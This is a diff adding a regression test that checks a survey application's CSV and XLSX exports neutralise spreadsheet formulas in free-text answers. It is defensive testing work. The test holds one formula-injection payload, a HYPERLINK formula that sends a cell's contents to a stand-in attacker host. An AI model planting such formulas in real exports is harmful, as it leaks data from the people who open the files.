@@ -235,3 +235,28 @@ def test_a_number_answer_of_zero_is_counted(neighbourhoods):
     )
     (result,) = survey_question_results(survey=survey, total_responses=1)
     assert result.answered == 1 and result.mean == 0
+
+
+def test_exports_never_carry_a_live_formula(client_for, survey, neighbourhoods):
+    """Regression: a free-text answer came out of the XLSX as an <f> cell and raw in the CSV."""
+    import zipfile
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    survey_response_submit(
+        survey=survey,
+        user=member(neighbourhood=neighbourhoods[0]),
+        answers=answers_for(survey, text=attack),
+    )
+    staff = client_for("Participation staff")
+    response = staff.get(f"/admin/survey-results/{survey.pk}/export.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith("=") for cell in cells)
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    response = staff.get(f"/admin/survey-results/{survey.pk}/export.xlsx")
+    data = b"".join(response.streaming_content)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    values = [c.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
+    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in values)
